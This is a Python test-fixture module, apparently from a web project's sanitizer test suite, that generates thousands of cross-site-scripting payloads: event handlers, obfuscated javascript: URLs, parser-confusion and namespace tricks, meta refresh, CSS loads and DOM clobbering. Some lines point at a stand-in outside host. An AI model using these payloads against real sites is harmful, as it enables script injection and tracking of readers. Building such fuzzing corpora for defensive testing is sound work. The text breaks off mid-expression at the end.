"""Hostile strings by the thousand: every way known to us of getting a script past something that cleans HTML.

They are made, not collected: each class below is a product of parts (tags, attributes, encodings, places), in a fixed
order, so that a failure can be repeated. The classes follow the HTML standard's parser and what has been published of
holes in other sanitizers (ammonia and nh3, bleach, DOMPurify, HTML Purifier, sanitize-html, TYPO3's, AntiSamy,
Closure's). A script that runs calls `ran()`, which `tests.hostile.watch` puts into every page and frame.
"""

import base64
import html
import inspect
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import chain, product

from tests.hostile import size

CALL = "ran()"
STRANGER = "hostile.invalid"
"""A host that cannot exist (RFC 2606). No request may go there."""


@dataclass(frozen=True)
class Kind:
    """A class of inputs. `bites`: uncleaned, at least one of them runs a script or asks another server by itself."""

    name: str
    why: str
    bites: bool
    inputs: list[str]


KINDS: dict[str, Kind] = {}


def kind(bites: bool) -> Callable[[Callable[[], Iterator[str]]], Callable[[], Iterator[str]]]:
    """Registers a generator of inputs; its name is the class's, and its docstring says what it tries."""

    def register(make: Callable[[], Iterator[str]]) -> Callable[[], Iterator[str]]:
        known = {text for other in KINDS.values() for text in other.inputs}
        inputs = [text for text in dict.fromkeys(make()) if text not in known]
        KINDS[make.__name__] = Kind(make.__name__, inspect.getdoc(make) or "", bites, inputs)
        return make

    return register


def everything() -> list[str]:
    """All inputs, class by class, each once."""
    return list(chain.from_iterable(each.inputs for each in KINDS.values()))


def for_browsers() -> list[str]:
    """Those that a browser reads in this run (tests.hostile.size)."""
    return list(chain.from_iterable(size.some(each.inputs) for each in KINDS.values()))


# --- Parts ----------------------------------------------------------------------------------------------------

SINKS = [
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<script>{CALL}</script>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<style onload={CALL}>x{{}}</style>",
    f"<video><source onerror={CALL}></video>",
]
"""Elements that run a script as soon as they stand in a page."""
IMAGE, SVG, SCRIPT = SINKS[:3]

ALLOWED_TAGS = "a p strong em b i h2 h3 ul ol li blockquote br hr".split()
OTHER_TAGS = (
    "img svg body iframe video audio input details marquee math object embed button select textarea style link form "
    "table td div span font x-y isindex keygen frameset bgsound dialog meter fieldset label template slot portal"
).split()
EVENTS = (
    "abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut "
    "beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay "
    "canplaythrough change click close command contentvisibilityautostatechange contextlost contextmenu "
    "contextrestored copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop "
    "durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange "
    "gesturestart gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata "
    "loadedmetadata loadend loadstart lostpointercapture message messageerror mousedown mouseenter mouseleave "
    "mousemove mouseout mouseover mouseup mousewheel offline online pagehide pagereveal pageshow pageswap paste pause "
    "play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover "
    "pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange rejectionhandled repeat "
    "reset resize scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked seeking "
    "select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle "
    "touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart "
    "unhandledrejection unload volumechange waiting webkitanimationend webkittransitionend wheel zoom"
).split()
SEPARATORS = [
    " ",
    "\t",
    "\n",
    "\r",
    "\f",
    "/",
    "\v",
    "\x00",
    "\u2028",
    "\xa0",
    " / ",
    "\n\t ",
    "//",
    "\u3000",
    ' x="" ',
]
QUOTES = ["{0}", '"{0}"', "'{0}'", "`{0}`", '"{0}', "&quot;{0}&quot;", '"{0}"onx=', "' {0} '"]
RAW = "style script noscript noembed noframes textarea title xmp plaintext iframe template select option".split()
"""Elements whose content one parser reads as text and another, or the same one elsewhere, as tags."""


def alternating(text: str) -> str:
    """`text` in cases that change from letter to letter."""
    return "".join(letter.upper() if number % 2 else letter for number, letter in enumerate(text))


CASES: list[Callable[[str], str]] = [str.lower, str.upper, alternating]


def numeric(text: str, form: str) -> str:
    """Every character of `text` as a character reference in this form: `&#{0};`, `&#x{0:x};`, …"""
    return "".join(form.format(ord(letter)) for letter in text)


def data_url(content: str, mime: str = "text/html") -> str:
    return f"data:{mime};base64,{base64.b64encode(content.encode()).decode()}"


def end_of(text: str) -> str:
    """Closes what the input may have left open, so that the next one is read as it would be alone."""
    opened = re.findall(r"<([a-z][a-z:-]*)", text.lower())[-40:]
    return "'\">-->" + "]]>" * ("<![" in text) + "".join(f"</{tag}>" for tag in reversed(opened))


# --- Tags and their attributes --------------------------------------------------------------------------------


@kind(bites=True)
def event_handlers() -> Iterator[str]:
    """Every tag with every event; quotes, separators and case take turns."""
    for number, (tag, event) in enumerate(product(ALLOWED_TAGS + OTHER_TAGS, EVENTS)):
        if (number // len(EVENTS) + number) % 3 and tag not in ("a", "p", "img"):
            continue  # every third pair is enough, and leaves no tag and no event out
        separator, quote = SEPARATORS[number % 6], QUOTES[number % 3].format(CALL)
        change = CASES[number % len(CASES)]
        yield f"<{change(tag)}{separator}{change('on' + event)}={quote} src=x>"


@kind(bites=True)
def separators_and_quotes() -> Iterator[str]:
    """What stands between a tag, its attribute and the value, and what is taken for a space or a quote."""
    openings = [
        ("img", "src=x", "onerror"),
        ("svg", "", "onload"),
        ("a", 'href="/x/"', "onclick"),
        ("p", "", "onmouseover"),
        ("body", "", "onload"),
    ]
    for number, ((tag, rest, event), separator, quote) in enumerate(product(openings, SEPARATORS, QUOTES)):
        change = CASES[number % len(CASES)]
        yield f"<{change(tag)}{separator}{rest}{separator}{change(event)}={quote.format(CALL)}{separator}>"
    for (tag, rest, event), equals in product(
        openings, [" = ", "\n=\t", "\f=", "=\x00", "==", "&#61;", "=\u2028", "\x0b="]
    ):
        yield f"<{tag} {rest} {event}{equals}{CALL}>"
    for (tag, rest, event), before in product(
        openings, ["\x00", "\u200b", "\ufeff", "\xad", "\x01", "<", "%00", "&", "\\"]
    ):
        yield f"<{before}{tag} {rest} {event}={CALL}>"
        yield f"<{tag}{before} {rest} {event}={CALL}>"
        yield f"<{tag} {rest} {before}{event}={CALL}>"


@kind(bites=True)
def script_elements() -> Iterator[str]:
    """The script element, however it is opened, closed, named, nested and loaded."""
    ends = [
        "</script>",
        "</script >",
        "</script\n>",
        "</script/x>",
        "</SCRIPT\t",
        "</script",
        "",
        "<\\/script>",
        "</script\x00>",
    ]
    starts = [
        "<script>",
        "<script >",
        "<script\n>",
        "<script/>",
        "<script/x>",
        "<script x=>",
        "<script\x00>",
        "<script\f>",
        "< script>",
    ]
    for start, end, change in product(starts, ends, CASES):
        yield f"{change(start)}{CALL}{end}"
    types = [
        "text/javascript", "module", "text/ecmascript", "application/javascript", "text/jscript", "text/vbscript", "",
        "text/javascript;charset=utf-7", "importmap", "speculationrules", "text/babel", "text/plain",
    ]  # fmt: skip
    for mime, wrapper in product(types, ["{0}", "<!--{0}\n//-->", "<![CDATA[{0}//]]>", "/*<![CDATA[*/{0}/*]]>*/"]):
        yield f'<script type="{mime}">{wrapper.format(CALL)}</script>'
    sources = [
        f"//{STRANGER}/x.js",
        f"data:text/javascript,{CALL}",
        data_url(CALL, "text/javascript"),
        f"\\\\{STRANGER}\\x.js",
    ]
    for source, form in product(sources, ['<script src="{0}"></script>', "<script/src={0}>",
            "<svg><script href='{0}'/></svg>",
                                          "<svg><script xlink:href='{0}'></script></svg>",
                                          "<script async src={0} type=module>"]):  # fmt: skip
        yield form.format(source)
    for split in range(1, 6):
        yield f"<{'script'[:split]}<script>{'script'[split:]}>{CALL}</{'script'[:split]}</script>{'script'[split:]}>"
        yield f"<{'script'[:split]}\x00{'script'[split:]}>{CALL}</script>"
        yield f"<{'script'[:split]}<!-- -->{'script'[split:]}>{CALL}</script>"
    for place in ["<p>{0}</p>", "<ul><li>{0}</ul>", "<a href=/x/>{0}</a>", "<b><i>{0}", "<table>{0}", "<svg>{0}",
            "<math>{0}",
                  "<select>{0}", "<template>{0}</template>", "<svg><desc>{0}", "<math><mtext>{0}",
                  "<frameset>{0}"]:  # fmt: skip
        yield place.format(SCRIPT)


@kind(bites=True)
def breakouts() -> Iterator[str]:
    """Ways out of where a text may be put: an attribute, a title, a textarea, a script, JSON, a comment, XML."""
    closers = [
        '"', "'", "`", '">', "'>", ">", "/>", '"/>', "-->", "--!>", "]]>", "</title>", "</textarea>", "</script>",
        "</style>",
        "</p>", "</a>", "</option></select>", "</time>", "</figcaption>", "</h1>", "</noscript>", "</item>", "</loc>",
        "</description>",
        '"}</script>', "\\\"}</script>", "\\u003c/script>", '"></option>', "\n\n", "\r\n\r\n", "%0d%0a%0d%0a",
        "\u2028", "\\", "&quot;>",
    ]  # fmt: skip
    for closer, sink in product(closers, SINKS):
        yield closer + sink
    for quote, event in product(
        ['"', "'", "`", "", "&#34;", "&quot;", "\\"], ["onfocus", "onmouseover", "onload", "onerror"]
    ):
        yield f"{quote} autofocus tabindex=0 {event}={CALL} x={quote}"
        yield f"x{quote} {event}={CALL}//"
        yield f"{quote}{event}={CALL} "
    for start, end in product(
        ["'", '"', "`", "\\'", '\\"', "</script><script>", "*/", "\n", "\u2029", "${", "'-", '"-'],
        ["//", "/*", "-'", '-"', "}", "<!--"],
    ):
        yield f"{start};{CALL}{end}"
    yield from (f"<b {event}={CALL}>" for event in EVENTS if len(event) <= 8)  # short enough for the shortest fields


# --- Addresses ------------------------------------------------------------------------------------------------

URL_ATTRIBUTES = [
    ("a", "href"), ("a", "ping"), ("area", "href"), ("audio", "src"), ("base", "href"), ("blockquote", "cite"),
    ("body", "background"),
    ("button", "formaction"), ("embed", "src"), ("form", "action"), ("frame", "src"), ("iframe", "src"), ("img",
    "src"), ("img", "lowsrc"),
    ("img", "dynsrc"), ("img", "longdesc"), ("input", "src"), ("input", "formaction"), ("isindex", "action"), ("link",
    "href"),
    ("math", "href"), ("object", "data"), ("object", "codebase"), ("applet", "code"), ("script", "src"), ("source",
    "src"),
    ("svg:a", "xlink:href"), ("svg:a", "href"), ("svg:use", "href"), ("svg:image", "xlink:href"), ("table",
    "background"), ("track", "src"),
    ("video", "poster"), ("video", "src"), ("ol", "type"), ("a", "title"),
]  # fmt: skip


def in_attribute(tag: str, attribute: str, value: str, quote: str = '"') -> str:
    """An element of this name with this attribute; `svg:a` is an `a` in an `svg`."""
    namespace, _, name = tag.rpartition(":")
    element = f"<{name} {attribute}={quote}{value}{quote}>x</{name}>"
    return f"<{namespace}>{element}</{namespace}>" if namespace else element


def spellings(scheme: str, rest: str) -> Iterator[str]:
    """An address, hidden from whoever compares its beginning."""
    yield from (f"{change(scheme)}:{rest}" for change in CASES)
    for space in [
        "\t",
        "\n",
        "\r",
        "&Tab;",
        "&NewLine;",
        "&#9;",
        "&#10;",
        "&#x0D;",
        "&#9",
        "\x00",
        "\xad",
        "\u200b",
        "&#0;",
        "\\",
    ]:
        yield f"{scheme[:4]}{space}{scheme[4:]}:{rest}"
        yield f"{scheme}{space}:{rest}"
    for before in [
        "\x01",
        "\x08",
        "\x0e",
        "\x1f",
        " ",
        "\xa0",
        "\u2028",
        "\ufeff",
        "&#1;",
        "&#x20;",
        "&#14;",
        "feed:",
        "view-source:",
        "jar:",
        "\x7f",
        "url:",
    ]:
        yield f"{before}{scheme}:{rest}"
    for form in [
        "&#{0};",
        "&#x{0:x};",
        "&#x{0:X}",
        "&#{0:07d}",
        "&#{0:07d};",
        "&#X{0:06x};",
        "%{0:02x}",
        "%25{0:02x}",
        "\\u{0:04x}",
        "\\x{0:02x}",
    ]:
        yield numeric(scheme, form) + f":{rest}"
        yield f"{scheme}{numeric(':', form)}{rest}"
    yield f"{scheme}&colon;{rest}"
    yield f"{scheme}&colon{rest}"
    yield f"{scheme}:&#10;//{STRANGER}&#10;{rest}"
    yield f"{scheme}://%0a{rest}"
    yield f"{scheme}://{STRANGER}/%0d%0a{rest}"
    yield f"{scheme}:/*x*/{rest}"
    yield f"{scheme}\uff1a{rest}"
    yield "".join(chr(ord(letter) + 0xFEE0) for letter in scheme) + f":{rest}"


SCRIPT_ADDRESSES = [
    ("javascript", CALL),
    ("vbscript", f"execscript('{CALL}')"),
    ("data", f"text/html,{html.escape(SCRIPT)}"),
    ("data", f"image/svg+xml,{html.escape(f'<svg xmlns=http://www.w3.org/2000/svg onload={CALL}></svg>')}"),
]


@kind(bites=True)
def script_addresses() -> Iterator[str]:
    """javascript:, vbscript: and data: in every attribute that takes an address, in every spelling."""
    for number, (tag, attribute) in enumerate(URL_ATTRIBUTES):
        for turn, (scheme, rest) in enumerate(SCRIPT_ADDRESSES):
            written = list(spellings(scheme, rest))
            whole = (tag, attribute) == ("a", "href")  # the attribute that is allowed gets all of them
            chosen = written if whole else written[(number + turn) % 8 :: 8]
            yield from (in_attribute(tag, attribute, address) for address in chosen)
    for address in spellings("javascript", CALL):
        yield in_attribute("a", "href", address, quote="'")
        yield in_attribute("a", "href", address.replace(" ", "&#32;"), quote="")
    for scheme in (
        "blob file filesystem ftp gopher intent mhtml mocha livescript ws wss chrome about x-javascript res sms".split()
    ):
        yield in_attribute("a", "href", f"{scheme}:{CALL}")
        yield in_attribute("iframe", "src", f"{scheme}:{CALL}")


@kind(bites=True)
def asking_strangers() -> Iterator[str]:
    """Nothing runs, but somebody else's server is asked, and so learns who reads."""
    tags = (
        "img video audio source track input embed iframe link object script body table td svg image use p a li ol"
    ).split()
    attributes = (
        "src srcset poster background data href xlink:href ping imagesrcset manifest attributionsrc cite lowsrc icon"
    ).split()
    addresses = [
        f"//{STRANGER}/?",
        f"http://{STRANGER}/x 2x, //{STRANGER}/y 3x",
        f"\\\\{STRANGER}\\x",
        f"https:{STRANGER}/x",
    ]
    for number, (tag, attribute) in enumerate(product(tags, attributes)):
        yield f'<{tag} {attribute}="{addresses[number % len(addresses)]}">'
    yield f"<img src=//{STRANGER}/x>"
    relations = (
        "stylesheet import preload prefetch modulepreload dns-prefetch preconnect icon manifest prerender pingback"
    )
    for rel in relations.split():
        yield f'<link rel={rel} as=image href="//{STRANGER}/x">'
        yield f"<svg><link xmlns='http://www.w3.org/1999/xhtml' rel={rel} href=//{STRANGER}/x /></svg>"
    for rest in ["<a href='//{0}/?", '<img src="//{0}/?', "<form action=//{0}/><textarea name=x>",
            "<base href=//{0}/><a href=x>",
                 "<meta http-equiv=refresh content='0;url=//{0}/?", "<base target='",
                 "<button form=x formaction=//{0}/>", "<table background=//{0}/>",
                 "<a ping=//{0}/ href=/x/>", "<portal src=//{0}/>", "<fencedframe src=//{0}/>", "<image src=//{0}/>",
                 "<picture><source srcset=//{0}/x><img></picture>", "<img srcset=',,//{0}/x'>",
                 "<video poster=//{0}/>"]:  # fmt: skip
        yield f"{rest.format(STRANGER)} x <p>y</p>"


@kind(bites=True)
def leading_away() -> Iterator[str]:
    """meta refresh, base, and forms that send the page somewhere else."""
    targets = [f"//{STRANGER}/", f"javascript:{CALL}", f"data:text/html,{SCRIPT}", data_url(SCRIPT)]
    for target, form, change in product(
        targets, ["0;url={0}", "0; URL='{0}", "0{0}", " 0 , url={0}", "0;{0}", "0;;URL={0}"], CASES
    ):
        yield f'<{change("meta")} {change("http-equiv")}={change("refresh")} content="{form.format(target)}">'
    for target in targets:
        yield f"<meta http-equiv='&#114;efresh' content='0;url={target}'>"
        yield f"<meta/http-equiv=refresh/content=0;url={target}>"
        yield f'<p><meta http-equiv="refresh" content="0;url={target}"></p>'
        yield f'<base href="{target}"><a href="x">y</a>'
        yield f"<base target=_top><a href={target}>x</a>"
        yield f'<form id=f action="{target}"></form><button form=f>x</button>'
        yield f'<form><button formaction="{target}">x</button><input type=image formaction="{target}"></form>'
        yield f'<form action="{target}"><input autofocus onfocus=form.submit()></form>'
        yield f'<form><isindex action="{target}" type=image>'
        yield f'<math href="{target}">x</math><math><mi xlink:href="{target}">x</mi></math>'
    for header in [
        "set-cookie",
        "content-security-policy",
        "x-dns-prefetch-control",
        "content-type",
        "link",
        "default-style",
        "accept-ch",
    ]:
        content = f"x=1; script-src *; text/html; charset=utf-7; <//{STRANGER}/>; rel=stylesheet"
        yield f"<meta http-equiv={header} content='{content}'>"


@kind(bites=True)
def embedded_documents() -> Iterator[str]:
    """A page inside the page: frames, objects, srcdoc in every encoding."""
    documents = [SCRIPT, SVG, IMAGE, f"<body onload=parent.{CALL}>", f"<a href=javascript:{CALL}>x</a>"]
    encodings: list[Callable[[str], str]] = [
        html.escape,
        lambda text: html.escape(html.escape(text)),
        lambda text: numeric(text, "&#{0};"),
        lambda text: numeric(text, "&#x{0:x};"),
        lambda text: numeric(text, "&#{0:07d}"),
        lambda text: text.replace('"', "&quot;"),
        lambda text: "&#65279;" + html.escape(text),
    ]
    for document, encode in product(documents, encodings):
        yield f'<iframe srcdoc="{encode(document)}"></iframe>'
        yield f'<iframe src="about:blank" srcdoc="{encode(document)}" sandbox="allow-scripts allow-same-origin">'
    for document, tag in product(documents, ["iframe", "frame", "embed", "object", "fencedframe", "portal"]):
        attribute = "data" if tag == "object" else "src"
        yield f'<{tag} {attribute}="{data_url(document)}"></{tag}>'
        yield f'<{tag} {attribute}="data:text/html,{html.escape(document)}" type="text/html">'
        yield f"<{tag} {attribute}=\"javascript:'{html.escape(document)}'\">"
    for classid in ["clsid:ae24fdae-03c6-11d1-8b76-0080c744f389", "java:x"]:
        yield f'<object classid="{classid}"><param name=url value="javascript:{CALL}"></object>'
        yield f'<applet code="{classid}" archive="//{STRANGER}/x.jar"></applet>'
    yield f"<frameset onload={CALL}><frame src='javascript:{CALL}'></frameset>"
    yield f"<object data=x onerror={CALL}><embed src=x onerror={CALL}></object>"
    yield f"<layer src='//{STRANGER}/'></layer><ilayer src='//{STRANGER}/'></ilayer>"
    yield f"<xml src='//{STRANGER}/' id=i></xml>"


# --- What parsers disagree about ------------------------------------------------------------------------------

PLACES = [
    "{0}", "<svg>{0}", "<math>{0}", "<svg><desc>{0}", "<svg><title>{0}", "<svg><foreignObject>{0}", "<math><mtext>{0}",
    "<math><mi>{0}",
    '<math><annotation-xml encoding="text/html">{0}', "<math><annotation-xml>{0}", "<svg></p>{0}", "<math><p>{0}",
    "<table>{0}",
    "<select>{0}", "<template>{0}", "<p><a href=/x/>{0}",
]  # fmt: skip


@kind(bites=True)
def raw_text() -> Iterator[str]:
    """What is text in one place and tags in another: each such element, in each namespace, left in each way."""
    ways = [
        '<{raw}><a title="</{raw}>{sink}">x</a>',
        "<{raw}>{sink}</{raw}>",
        "<{raw}></{raw}>{sink}",
        '<{raw}><!--</{raw}><a title="-->{sink}">x</a>',
        "<{raw}><![CDATA[</{raw}>{sink}]]>",
        '<a title="<{raw}>"></a><a title="</{raw}>{sink}">x</a>',
        "<{raw}>&lt;/{raw}&gt;{sink}",
        "</{raw}><{raw}/>{sink}",
    ]
    for number, (place, raw, way) in enumerate(product(PLACES, RAW, ways)):
        if (number + number // len(ways)) % 2:
            continue
        yield place.format(way.format(raw=raw, sink=SINKS[number // 2 % 3].replace('"', "'")))


@kind(bites=True)
def namespace_confusion() -> Iterator[str]:
    """HTML, SVG and MathML read the same words differently, and tags that are moved take their reading along."""
    outer = [
        "<math><mtext>",
        "<svg><foreignObject>",
        "<svg><desc>",
        '<math><annotation-xml encoding="application/xhtml+xml">',
        "<svg><title>",
    ]
    movers = [
        "<form></form><form>", "<table>", "<table><caption>", "<p></p><p>", "<a><a>", "<b><p></b>", "<nobr><nobr>",
        "<select><option>",
        "<table><tr><td></table>", "<br>", "</br>", "</p>", "<li><li>", "<button><button>", "<h2><h3>",
    ]  # fmt: skip
    inner = ["<mglyph>", "<malignmark>", "<mglyph><svg><mtext>", "<svg>", "<math>", "<svg><style>", "<math><style>", ""]
    for number, (first, mover, second) in enumerate(product(outer, movers, inner)):
        if (number + number // len(inner)) % 2:
            continue
        sink = SINKS[number // 2 % 3].replace('"', "'")
        yield f'{first}{mover}{second}<style><a title="</style>{sink}">x</a>'
        yield f"{first}{mover}{second}<style><!--</style>{sink}-->"
    roots = {
        "svg": ["desc", "title", "foreignObject", "style", "a", "g"],
        "math": ["mtext", "mi", "mo", "ms", "mn", "annotation-xml", "style"],
    }
    for root, names in roots.items():
        for name, sink in product(names, SINKS[:3]):
            yield f"<{root}><{name}>{sink}</{name}></{root}>"
            yield f"<{root}></{root}><{name}>{sink}"
            yield f"<{root}><{name}/></{root}>{sink}"
            yield f"<{root}><{name}><{root}><{name}></{name}></{root}>{sink}"
            yield f'<{root} xmlns="http://www.w3.org/1999/xhtml"><{name}>{sink}'
            yield f"<x:{root} xmlns:x='http://www.w3.org/2000/svg'><x:script>{CALL}</x:script></x:{root}>"


@kind(bites=True)
def nesting() -> Iterator[str]:
    """Tags in tags that may not hold them, and deeper than browsers keep (512)."""
    for tags in ["table", "form", "p", "select", "option", "a", "button", "h2", "li", "b", "nobr", "dd",
            "option optgroup select",
                 "table td", "ul li p", "blockquote p", "a p", "b p", "a b i p", "p object", "a table td",
                 "table caption svg desc",
                 "ruby rt", "template", "details summary", "svg foreignObject", "math mtext",
                 "p button p select"]:  # fmt: skip
        unit = "".join(f"<{tag}>" for tag in tags.split())
        back = "".join(f"</{tag}>" for tag in reversed(tags.split()))
        for depth, sink in zip([2, 9, 30], SINKS[:3], strict=True):
            yield unit * depth + sink
            yield unit * depth + sink + back * depth
        yield unit + IMAGE + back.replace("</", "<") * 3
    for tag, depth in [("b", 513), ("div", 511), ("blockquote", 515), ("svg><g", 512)]:
        yield f"<{tag}>" * depth + IMAGE
    for depth in (500, 506, 508, 512):
        within = (
            f'<svg><desc><table><caption></caption></table></desc><style><a title="</style>{IMAGE}"></a></style></svg>'
        )
        yield "<div>" * depth + f"<table><caption>{within}</caption></table>" + "</div>" * depth
        yield "<p>" + "<i>" * depth + f'<a href="javascript:{CALL}">x</a>'


@kind(bites=True)
def comments_and_sections() -> Iterator[str]:
    """Where a comment, a CDATA section, a processing instruction or a doctype ends, and for whom."""
    starts = ["<!--", "<!-->", "<!--->", "<!---", "<!-", "<!", "<!x", "<?", "<?xml ", "<?php ", "<%", "</ ", "</",
    "</\x00", "<![CDATA[",
              "<![if IE]>", "<!--[if gte IE 4]>", "<!DOCTYPE x [", "<!DOCTYPE html ", "<!--\x00", "<!--a foo=",
              "<comment>", "<!ENTITY x "]  # fmt: skip
    ends = ["-->", "--!>", "->", ">", "?>", "]]>", "%>", "", "--\x00>", "--\n>", "<![endif]-->", "\x00>"]
    for number, (start, end) in enumerate(product(starts, ends)):
        sink = SINKS[number % 3]
        yield f"{start}{sink}{end}"
        yield f"{start} x {end}{sink}"
        yield f'<p>{start}<a title="{end}{SVG}">x</a>{end}</p>'
    for root, sink in product(["svg", "math", "p"], SINKS[:3]):
        yield f"<{root}><![CDATA[><{root}>]]>{sink}"
        yield f"<{root}><![CDATA[]]]]><![CDATA[>{sink}]]></{root}>"
        yield f"<![CDATA[<{root}>{sink}]]>"


@kind(bites=True)
def unfinished() -> Iterator[str]:
    """The same elements cut off after each letter: what comes next on the page would complete them."""
    wholes = [
        f'<img src="x" onerror="{CALL}">',
        f"<a href='javascript:{CALL}' title='x>y'>x</a>",
        f"<svg/onload={CALL}//",
        f'<iframe srcdoc="{html.escape(SCRIPT)}"></iframe>',
        f"<style>@import '//{STRANGER}/'</style>",
        f"<script>/*{CALL}*/</script>",
        f'<p title="{SVG}" <b onfocus={CALL}>x',
    ]
    for whole in wholes:
        for end in range(2, len(whole)):
            yield whole[:end]
            yield f"<p>x {whole[:end]}</p><p>y</p>"


# --- Attributes -----------------------------------------------------------------------------------------------


@kind(bites=False)
def written_anew() -> Iterator[str]:
    """Values of allowed attributes that would break out if they were written back without care."""
    values = [
        f"`{CALL}", f"``onfocus={CALL} autofocus", f"'onfocus={CALL} x='", f"&quot;onfocus={CALL} x=&quot;",
        f"x&#34;onclick={CALL}//",
        f"&#62;&#60;svg onload={CALL}&#62;", f"--&gt;{SVG}", f"</a>{IMAGE}", f"&lt;/a&gt;{html.escape(IMAGE)}",
        f"x\n onfocus={CALL}",
        f"\\' onfocus={CALL} \\'", f"\x00' onfocus={CALL}", f"&amp;quot; onfocus={CALL}", f"]]>{SVG}",
        f"</title>{SVG}", f"</p>{IMAGE}<p>",
        f"<b>{SVG}</b>", f"<i onfocus={CALL}>x</i>", f"</textarea>{IMAGE}", f"x>{IMAGE}", "<b></b><i></i>",
        "<p></p>   <p> </p>", f"{{{{{CALL}}}}}",
    ]  # fmt: skip
    homes = [
        '<a href="/x/" title="{0}">x</a>', "<a href='/x/' title='{0}'>x</a>", "<a title=`{0}`>x</a>",
        "<a title={0}>x</a>", '<a href="{0}">x</a>',
        '<a href="http://x.example/{0}">x</a>', '<a href="mailto:{0}">x</a>', '<a href="tel:{0}">x</a>',
        '<ol start="{0}"><li>x</ol>',
        '<ol type="{0}"><li>x</ol>', '<p title="{0}">x</p>', '<a href="?{0}">x</a>',
    ]  # fmt: skip
    for home, value in product(homes, values):
        yield home.format(value)


@kind(bites=False)
def twice_the_same() -> Iterator[str]:
    """An attribute given twice, or with a name that some parsers read as another."""
    good, bad = '"/x/"', f'"javascript:{CALL}"'
    for first, second, space in product(
        ["href", "HREF", "hReF", "\x00href"], ["href", "HREF", "xlink:href", "href\x00", "/href"], [" ", "/", "\n"]
    ):
        yield f"<a{space}{first}={good}{space}{second}={bad}>x</a>"
        yield f"<a{space}{first}={bad}{space}{second}={good}>x</a>"
    for junk in [
        '"',
        "'",
        "=",
        "<",
        "`",
        "\\",
        "a=b=",
        '""',
        "''",
        "=x",
        "on",
        "x/",
        "\x01",
        "{",
        "[",
        "(",
        "@",
        ":",
        "*",
        "#",
    ]:
        yield f"<a {junk}onclick={CALL} href=/x/>x</a>"
        yield f"<p {junk} onclick={CALL}>x</p>"
        yield f"<a href=/x/{junk}onclick={CALL}>x</a>"
    for name in [
        "formaction",
        "data-on",
        "xml:base",
        "xmlns",
        "is",
        "slot",
        "part",
        "nonce",
        "id",
        "name",
        "class",
        "style",
        "for",
        "form",
        "target",
        "rel",
    ]:
        for tag in ("a", "ol", "p", "li"):
            yield f'<{tag} {name}="javascript:{CALL}">x</{tag}>'


@kind(bites=False)
def clobbering() -> Iterator[str]:
    """Names that take the place of the page's own: what a script reads is then an element of the article."""
    names = (
        "attributes body children cookie createElement currentScript defaultView documentElement DjangoProseEditor "
        "firstChild forms getElementById gettext head implementation location innerHTML nodeName parentNode "
        "querySelector style submit title csrfmiddlewaretoken article_form id_body id_region isi __proto__ constructor"
    ).split()
    for number, name in enumerate(names):
        for form in ["<form id={0}><input name={0}>", "<img name={0}>", "<a id={0}><a id={0} name=x href=//{1}/>",
                "<p id={0}>x</p>",
                     "<iframe name={0} srcdoc='x'></iframe>", "<object id={0}><embed name={0}></object>",
                     "<ol id={0} name={0}><li>x</ol>"]:  # fmt: skip
            yield CASES[number % 2](form.format(name, STRANGER))


@kind(bites=True)
def styles() -> Iterator[str]:
    """CSS that loads, hides, covers or once ran scripts."""
    rules = [
        f"x:expression({CALL})", f"x:e/**/xpression({CALL})", f"x:\\65xpression({CALL})",
        f"-moz-binding:url(//{STRANGER}/x.xml#x)",
        f"behavior:url(//{STRANGER}/x.htc)", f"background:url(javascript:{CALL})", f"background:url(//{STRANGER}/x)",
        f"background:\\75rl(//{STRANGER}/x)", "position:fixed;inset:0;z-index:9999",
        f"list-style-image:url(//{STRANGER}/x)",
        f"content:url(//{STRANGER}/x)", f"font-family:'x;background:url(//{STRANGER}/)",
        f"cursor:image-set('//{STRANGER}/x' 1x)",
        f"x:</style>{SVG}", f"x:'</style>{SVG}'", f"/*</style>{SVG}*/", "animation:x 1s", "content-visibility:auto",
    ]  # fmt: skip
    homes = ['<p style="{0}">x</p>', '<a href="/x/" style="{0}">x</a>', "<style>*{{{0}}}</style>", "<STYLE>p{{{0}}}",
    "<svg><style>*{{{0}}}</style></svg>",
             "<style><!--*{{{0}}}--></style>", "<div style='{0}'>x", "<li STYLE={0}>x"]  # fmt: skip
    for home, rule in product(homes, rules):
        yield home.format(rule)
    for rule in [f"@import '//{STRANGER}/x.css'", f"@import url(//{STRANGER}/x)", f"@\\69mport '//{STRANGER}/'",
            f"@font-face{{font-family:x;src:url(//{STRANGER}/)}}",
                 f"input[value^=a]{{background:url(//{STRANGER}/a)}}", "@keyframes x{}",
                 f"@namespace x url(//{STRANGER}/)", f"@charset 'utf-7';{SVG}"]:  # fmt: skip
        yield f"<style>{rule}</style>"
        yield f"<style type=text/css>{rule}"
        yield f"<svg><style>{rule}</style></svg>"
        yield f"<link rel=stylesheet href='data:text/css,{html.escape(rule)}'>"
    for event in ["animationstart", "animationend", "webkitanimationstart", "transitionend", "transitionrun"]:
        yield f"<style>@keyframes x{{}}</style><p style='animation:x' on{event}={CALL}>x</p>"


@kind(bites=True)
def animations() -> Iterator[str]:
    """SVG that changes an attribute after it was looked at, or takes it from elsewhere."""
    for tag, name, value in product(["animate", "set", "animateTransform", "animateMotion", "discard"], ["href",
            "xlink:href", "onclick", "onmouseover", "style"],
                                    ["to", "from", "values", "by"]):  # fmt: skip
        change = f'<{tag} attributeName="{name}" {value}="javascript:{CALL}" begin=0s fill=freeze />'
        yield f"<svg><a>{change}<text y=20>x</text></a></svg>"
    for event in ("begin", "end", "repeat"):
        for tag in ("animate", "set", "animateTransform"):
            yield f"<svg><{tag} on{event}={CALL} attributeName=x dur=1ms repeatCount=2></svg>"
            yield f"<p><svg><{tag.upper()} ON{event.upper()}='{CALL}' attributeName=x dur=1ms></svg></p>"
    picture = data_url(
